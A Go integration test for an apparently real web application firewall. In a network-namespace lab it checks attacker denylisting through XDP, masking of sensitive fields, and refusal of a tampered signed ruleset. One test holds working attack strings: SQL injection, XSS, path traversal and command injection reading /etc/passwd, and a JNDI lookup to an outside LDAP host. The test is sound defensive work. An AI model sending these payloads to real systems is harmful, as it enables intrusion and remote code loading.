// Package rules_test runs the whole loop of the mission with the real
// binaries in a network-namespace lab: a node protecting an application
// reports attacks to the cloud, the cloud's default trigger denylists the
// attacker, the signed ruleset reaches the node within seconds and XDP
// drops the attacker's packets until the entry expires; a sensitive-data
// rule made in the cloud masks the next event; a tampered ruleset is
// refused.
package rules_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/palisadewaf/palisade/cloud/apitypes"
	"github.com/palisadewaf/palisade/cloud/apiv1"
	"github.com/palisadewaf/palisade/cloud/apiv1/point"
	"github.com/palisadewaf/palisade/cloud/client"
	"github.com/palisadewaf/palisade/cloud/store"
	"github.com/palisadewaf/palisade/tools/lab"
)

const adminPassword = "loop-test-admin-password"

type loop struct {
	t                        *testing.T
	dir                      string
	host, client, att, cloud *lab.NS
	cloudAddr                string // host:port of the cloud, inside the lab
	api                      *client.Client
	appID                    int64
	pinPath, socket, cfg     string
	metrics                  string
	procs                    []*exec.Cmd
}

func (l *loop) start(name string, cmd *exec.Cmd) *exec.Cmd {
	l.t.Helper()
	logf, err := os.Create(filepath.Join(l.dir, name+".log"))
	if err != nil {
		l.t.Fatal(err)
	}
	cmd.Stdout, cmd.Stderr = logf, logf
	if err := cmd.Start(); err != nil {
		l.t.Fatal(err)
	}
	l.procs = append(l.procs, cmd)
	l.t.Cleanup(func() {
		if cmd.ProcessState == nil {
			_ = cmd.Process.Signal(syscall.SIGTERM)
			_ = cmd.Wait()
		}
		if l.t.Failed() {
			b, _ := os.ReadFile(logf.Name())
			l.t.Logf("%s log:\n%s", name, b)
		}
	})
	return cmd
}

func eventually(t *testing.T, d time.Duration, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(d)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(200 * time.Millisecond)
	}
	if !cond() {
		t.Fatalf("timed out after %s waiting for: %s", d, what)
	}
}

func setup(t *testing.T) *loop {
	lb := lab.New(t)
	l := &loop{t: t, dir: t.TempDir()}
	l.host = lb.MustNS(t, "host")
	l.client = lb.MustNS(t, "cli")
	l.att = lb.MustNS(t, "att")
	l.cloud = lb.MustNS(t, "cloud")
	ifCli, _ := lb.MustLink(t, l.host, l.client)
	ifAtt, _ := lb.MustLink(t, l.host, l.att)
	lb.MustLink(t, l.host, l.cloud)
	l.cloudAddr = net.JoinHostPort(l.cloud.Addr4.String(), "8080")
	bin := lab.Binaries(t)

	// The cloud, on its embedded database, in its own namespace.
	cloud := l.cloud.Command(context.Background(), filepath.Join(bin, "palisade-cloud"), "serve",
		"--listen", l.cloudAddr, "--data-dir", filepath.Join(l.dir, "cloud"))
	cloud.Env = append(os.Environ(), "PALISADE_ADMIN_PASSWORD="+adminPassword)
	l.start("cloud", cloud)
	hc := l.host.HTTPClient(10 * time.Second)
	eventually(t, 20*time.Second, "cloud ready", func() bool {
		resp, err := hc.Get("http://" + l.cloudAddr + "/readyz")
		if err != nil {
			return false
		}
		resp.Body.Close()
		return resp.StatusCode == http.StatusOK
	})
	api, err := client.New("http://"+l.cloudAddr, "", l.host.HTTPClient(30*time.Second))
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	login, err := api.Login(ctx, "admin@palisade.local", adminPassword)
	if err != nil {
		t.Fatal(err)
	}
	l.api = api.WithToken(login.Token)
	app, err := l.api.CreateApp(ctx, apitypes.CreateAppRequest{Name: "shop", FiltrationMode: "block"})
	if err != nil {
		t.Fatal(err)
	}
	l.appID = app.ID

	// The application: unmodified, on port 80 of the host namespace.
	ln, err := l.host.Listen("tcp", ":80")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "shop ok\n")
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })

	// The node: enrolled with a one-time token, then started.
	tok, err := l.api.CreateEnrollToken(ctx, "loop-test", time.Hour)
	if err != nil {
		t.Fatal(err)
	}
	state := filepath.Join(l.dir, "state")
	out, err := l.host.Command(ctx, filepath.Join(bin, "palisade-agent"), "enroll",
		"--cloud", "http://"+l.cloudAddr, "--token", tok.Secret, "--state-dir", state, "--config", "/nonexistent").CombinedOutput()
	if err != nil {
		t.Fatalf("enroll: %v: %s", err, out)
	}
	l.pinPath = fmt.Sprintf("/sys/fs/bpf/palisade-loop-%d", os.Getpid())
	l.socket = filepath.Join(l.dir, "agent.sock")
	l.metrics = "127.0.0.1:19466"
	l.cfg = filepath.Join(l.dir, "agent.yaml")
	cfg := fmt.Sprintf(`xdp:
  interfaces: [%s, %s]
  mode: native
  pin_path: %s
  sweep_interval: 1s
admin:
  socket: %s
metrics:
  listen: %s
log:
  level: debug
cloud:
  url: http://%s
  state_dir: %s
  poll_timeout: 10s
proxy:
  reporting:
    dir: %s
applications:
  - id: %d
    name: shop
    mode: block
    intercept: {ports: [80]}
    upstream: http://127.0.0.1:80
`, ifCli, ifAtt, l.pinPath, l.socket, l.metrics, l.cloudAddr, state, filepath.Join(l.dir, "report"), l.appID)
	if err := os.WriteFile(l.cfg, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if out, err := exec.Command(filepath.Join(bin, "palisade-agent"), "--detach", "--config", l.cfg).CombinedOutput(); err != nil {
			t.Errorf("detach: %v: %s", err, out)
		}
	})
	l.start("agent", l.host.Command(ctx, filepath.Join(bin, "palisade-agent"), "--config", l.cfg))
	// Transparent interception fails open: until the agent steers port 80
	// the application answers directly, so wait for the steering itself.
	eventually(t, 20*time.Second, "agent steering the application's port", func() bool {
		return l.scrape("palisade_steering_ports") >= 1
	})
	if status, _ := l.get(l.client, "/"); status != http.StatusOK {
		t.Fatalf("client through the agent: status %d", status)
	}
	return l
}

// get sends GET path to the application from ns; 0 means no answer.
func (l *loop) get(ns *lab.NS, path string) (int, string) {
	c := ns.HTTPClient(2 * time.Second)
	resp, err := c.Get("http://" + net.JoinHostPort(l.host.Addr4.String(), "80") + path)
	if err != nil {
		return 0, err.Error()
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 4096))
	return resp.StatusCode, string(b)
}

func (l *loop) scrape(name string) float64 {
	resp, err := l.host.HTTPClient(5 * time.Second).Get("http://" + l.metrics + "/metrics")
	if err != nil {
		return -1
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	var sum float64
	for _, line := range strings.Split(string(b), "\n") {
		if strings.HasPrefix(line, name+" ") || strings.HasPrefix(line, name+"{") {
			f := strings.Fields(line)
			v, _ := strconv.ParseFloat(f[len(f)-1], 64)
			sum += v
		}
	}
	return sum
}

func TestTriggerDenylistReachesXDP(t *testing.T) {
	l := setup(t)
	ctx := context.Background()
	appAddr := net.JoinHostPort(l.host.Addr4.String(), "80")

	// The tenant's default triggers, with a short lifetime so that the test
	// sees the entry expire (a source both triggers catch gets one entry,
	// which keeps the longer lifetime). Everything else about them stays.
	triggers, err := l.api.ListTriggers(ctx)
	if err != nil {
		t.Fatal(err)
	}
	const lifetime = 12
	var deny *apitypes.Trigger
	for i := range triggers {
		tr := &triggers[i]
		if tr.Action.Kind == store.ActionDeny {
			deny = tr
		}
		_, err = l.api.ReplaceTrigger(ctx, tr.ID, apitypes.TriggerRequest{
			Name: tr.Name, AppID: tr.AppID, Condition: tr.Condition,
			Action: store.TriggerAction{Kind: tr.Action.Kind, DurationSeconds: lifetime, IntegrationID: tr.Action.IntegrationID},
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	if deny == nil {
		t.Fatalf("no default denylist trigger among %d", len(triggers))
	}

	attacks := []string{
		"/?id=1'+OR+'1'='1", "/?q=<script>alert(1)</script>", "/?file=../../../../etc/passwd",
		"/?cmd=;cat+/etc/passwd", "/?u=${jndi:ldap://198.18.9.9/a}",
	}
	for i := range int(deny.Condition.Threshold) {
		status, body := l.get(l.att, attacks[i%len(attacks)])
		if status != http.StatusForbidden {
			t.Fatalf("attack %d: status %d (%s), want 403 in block mode", i, status, body)
		}
	}
	start := time.Now()
	eventually(t, 20*time.Second, "the attacker's packets dropped by XDP", func() bool {
		return !l.att.CanConnect(appAddr, 500*time.Millisecond)
	})
	t.Logf("attacks to XDP drop: %s (report batch delay, trigger, long-poll, apply)", time.Since(start).Round(time.Millisecond))
	if status, _ := l.get(l.client, "/"); status != http.StatusOK {
		t.Fatalf("the legit client lost access: %d", status)
	}
	if l.scrape("palisade_xdp_packets_total") <= 0 {
		t.Fatal("no XDP counters")
	}

	// The generated entry is visible through the API, with its trigger and
	// expiry.
	entries, err := l.api.ListIPEntries(ctx)
	if err != nil {
		t.Fatal(err)
	}
	var found *apitypes.IPEntry
	for i := range entries {
		if entries[i].List == apiv1.ListDeny && entries[i].Prefix.Addr() == l.att.Addr4 {
			found = &entries[i]
		}
	}
	if found == nil || found.TriggerID != deny.ID || found.Expires.IsZero() {
		t.Fatalf("generated deny entry for %s: %+v (entries: %+v)", l.att.Addr4, found, entries)
	}

	// After its expiry the attacker can connect again.
	deadline := time.Now().Add(time.Duration(lifetime+10) * time.Second)
	for !l.att.CanConnect(appAddr, 500*time.Millisecond) {
		if time.Now().After(deadline) {
			out, _ := exec.Command(filepath.Join(lab.Binaries(t), "palisadectl"), "deny", "ls", "--socket", l.socket).CombinedOutput()
			xs, _ := exec.Command(filepath.Join(lab.Binaries(t), "palisadectl"), "xdp", "stats", "--socket", l.socket).CombinedOutput()
			t.Fatalf("the attacker is still cut off after the entry's expiry; deny list:\n%s\n%s", out, xs)
		}
		time.Sleep(200 * time.Millisecond)
	}
}

func TestSensitiveRuleMasksNextEvent(t *testing.T) {
	l := setup(t)
	ctx := context.Background()
	before := l.scrape("palisade_ruleset_version")
	_, err := l.api.CreateRule(ctx, apiv1.Rule{
		Kind: apiv1.KindSensitive, AppID: l.appID,
		Sensitive: &apiv1.SensitiveRule{Point: point.MustParsePattern("query.nickname")},
	})
	if err != nil {
		t.Fatal(err)
	}
	// Every change bumps the tenant's ruleset version: the node has the
	// rule in force once its version moves past the one it had.
	eventually(t, 15*time.Second, "the node applying the ruleset with the rule", func() bool {
		return l.scrape("palisade_ruleset_version") > before
	})

	const secret = "Zq7xK9mWv2Lp"
	status, _ := l.get(l.client, "/?nickname=<script>alert('"+secret+"')</script>")
	if status != http.StatusForbidden {
		t.Fatalf("attack in the sensitive field: status %d, want 403", status)
	}
	var ev *apitypes.Event
	eventually(t, 15*time.Second, "the event in the cloud", func() bool {
		evs, _, err := l.api.SearchEvents(ctx, client.EventQuery{Point: "query.nickname", Limit: 10})
		if err != nil || len(evs) == 0 {
			return false
		}
		ev = &evs[0]
		return true
	})
	raw, _ := json.Marshal(ev)
	for i := 0; i+6 <= len(secret); i++ {
		if strings.Contains(string(raw), secret[i:i+6]) {
			t.Fatalf("the event carries part of the sensitive value (%q): %s", secret[i:i+6], raw)
		}
	}
	if !ev.Masked || ev.AttackType != "xss" || ev.Point != "query.nickname" {
		t.Fatalf("event should say masked and keep type and point: %s", raw)
	}
}

func TestTamperedRulesetRefused(t *testing.T) {
	l := setup(t)
	ctx := context.Background()
	// A deny entry made in the cloud reaches the node (the ruleset in force).
	if _, err := l.api.CreateIPEntry(ctx, apitypes.CreateIPEntryRequest{
		List: apiv1.ListDeny, Prefix: "198.18.250.1/32", Reason: "known bad",
	}); err != nil {
		t.Fatal(err)
	}
	eventually(t, 15*time.Second, "the node applying the ruleset", func() bool {
		return l.scrape("palisade_ruleset_version") > 0
	})
	inForce := l.scrape("palisade_ruleset_version")

	// Take the node's own signed ruleset, as the cloud served it, and alter
	// it: a deny entry for the legit client, a higher version.
	cred, err := os.ReadFile(filepath.Join(l.dir, "state", "credential"))
	if err != nil {
		t.Fatal(err)
	}
	req, _ := http.NewRequest(http.MethodGet, "http://"+l.cloudAddr+apiv1.RulesetPath+"?"+url.Values{apiv1.RulesetFullParam: {"1"}}.Encode(), nil)
	req.Header.Set("Authorization", "Bearer "+strings.TrimSpace(string(cred)))
	resp, err := l.host.HTTPClient(10 * time.Second).Do(req)
	if err != nil {
		t.Fatal(err)
	}
	var sr apiv1.SignedRuleset
	err = json.NewDecoder(resp.Body).Decode(&sr)
	resp.Body.Close()
	if err != nil {
		t.Fatal(err)
	}
	var rs map[string]any
	if err := json.Unmarshal(sr.Payload, &rs); err != nil {
		t.Fatalf("payload: %v", err)
	}
	rs["ruleset_version"] = rs["ruleset_version"].(float64) + 100
	list, _ := rs["ip_list"].([]any)
	rs["ip_list"] = append(list, map[string]any{
		"id": 999999, "list": "deny", "prefix": l.client.Addr4.String() + "/32", "origin": "manual", "created": time.Now(),
	})
	tampered := sr
	tampered.Payload, _ = json.Marshal(rs)
	body, _ := json.Marshal(tampered)

	// Replace the cloud by one that serves the tampered ruleset.
	for _, p := range l.procs {
		if strings.HasSuffix(p.Path, "nsenter") && slicesContains(p.Args, "serve") {
			_ = p.Process.Signal(syscall.SIGTERM)
			_ = p.Wait()
		}
	}
	ln, err := l.cloud.Listen("tcp", l.cloudAddr)
	if err != nil {
		t.Fatal(err)
	}
	served := make(chan struct{}, 16)
	evil := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.URL.Path, apiv1.RulesetPath) {
			w.Header().Set("ETag", apiv1.RulesetETag(int64(rs["ruleset_version"].(float64))))
			w.Write(body)
			select {
			case served <- struct{}{}:
			default:
			}
			return
		}
		http.Error(w, "down", http.StatusServiceUnavailable)
	})}
	go evil.Serve(ln)
	t.Cleanup(func() { evil.Close() })

	eventually(t, 30*time.Second, "a signature failure counted by the node", func() bool {
		return l.scrape("palisade_ruleset_signature_failures_total") >= 1
	})
	if v := l.scrape("palisade_ruleset_version"); v != inForce {
		t.Fatalf("ruleset version moved from %v to %v on a tampered ruleset", inForce, v)
	}
	if status, body := l.get(l.client, "/"); status != http.StatusOK {
		t.Fatalf("the client lost access (the tampered deny entry took effect?): status %d: %s\n%s", status, body, l.diagnose())
	}
}

// diagnose collects the node's view for a failure message.
func (l *loop) diagnose() string {
	ctl := filepath.Join(lab.Binaries(l.t), "palisadectl")
	deny, _ := exec.Command(ctl, "deny", "ls", "--socket", l.socket).CombinedOutput()
	stats, _ := exec.Command(ctl, "xdp", "stats", "--socket", l.socket).CombinedOutput()
	if os.Getenv("PALISADE_LOOP_STACKS") != "" {
		for _, p := range l.procs {
			if slicesContains(p.Args, "--config") && p.ProcessState == nil {
				_ = p.Process.Signal(syscall.SIGQUIT) // the agent prints its goroutines
			}
		}
		time.Sleep(time.Second)
	}
	again, body := l.get(l.client, "/")
	att, _ := l.get(l.att, "/")
	return fmt.Sprintf("deny list:\n%s\nxdp:\n%s\nclient again: %d %s; attacker: %d", deny, stats, again, body, att)
}

func slicesContains(s []string, v string) bool {
	for _, x := range s {
		if x == v {
			return true
		}
	}
	return false
}
